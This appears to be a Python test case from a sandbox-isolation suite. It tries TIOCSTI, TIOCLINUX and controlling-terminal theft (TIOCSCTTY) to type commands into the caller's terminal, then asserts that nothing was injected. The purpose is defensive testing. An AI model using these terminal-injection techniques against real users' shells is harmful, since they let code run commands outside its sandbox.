"""Types into the terminal that this run was started on.

Would gain: commands that the caller's shell executes when the run is over.
"""
import fcntl
import os
import select

from inside import attempt, control, main, say, sysc
import ctypes


def push(fd, request, data=b"i"):
    for byte in data:
        sysc("ioctl", fd, request, ctypes.create_string_buffer(bytes([byte])))


def by_tty(path, request):
    push(os.open(path, os.O_RDWR | os.O_NOCTTY), request, b"echo injected\n")


def taken(path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    os.setsid() if os.getpid() != os.getsid(0) else None
    sysc("ioctl", fd, 0x540e, 1)  # TIOCSCTTY, stealing


def attack(terminal):
    control("stdin is no terminal", lambda: not os.isatty(0))
    for fd in (0, 1, 2):
        attempt(f"TIOCSTI on {fd}", push, fd, 0x5412)
        attempt(f"TIOCLINUX on {fd}", push, fd, 0x541c)
        attempt(f"TIOCSTI with high bits on {fd}", push, fd, 0x5412 | 1 << 32)
    attempt("TIOCSTI on /dev/tty", by_tty, "/dev/tty", 0x5412)
    attempt("open the caller's terminal", by_tty, terminal, 0x5412)
    attempt("make it ours", taken, terminal)


def host(case):
    import pty
    import termios
    master, slave = pty.openpty()
    name = os.ttyname(slave)
    if os.geteuid() == 0:
        os.chown(name, case.uid, case.uid)

    def own_terminal():
        os.setsid()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)

    yield {"args": [name], "flags": ["--tty", "never"], "popen": {"stdin": slave, "preexec_fn": own_terminal}}
    readable = select.select([slave], [], [], 0)[0]
    os.close(master)
    os.close(slave)
    assert not readable, "something was typed"


if __name__ == "__main__":
    main(attack)
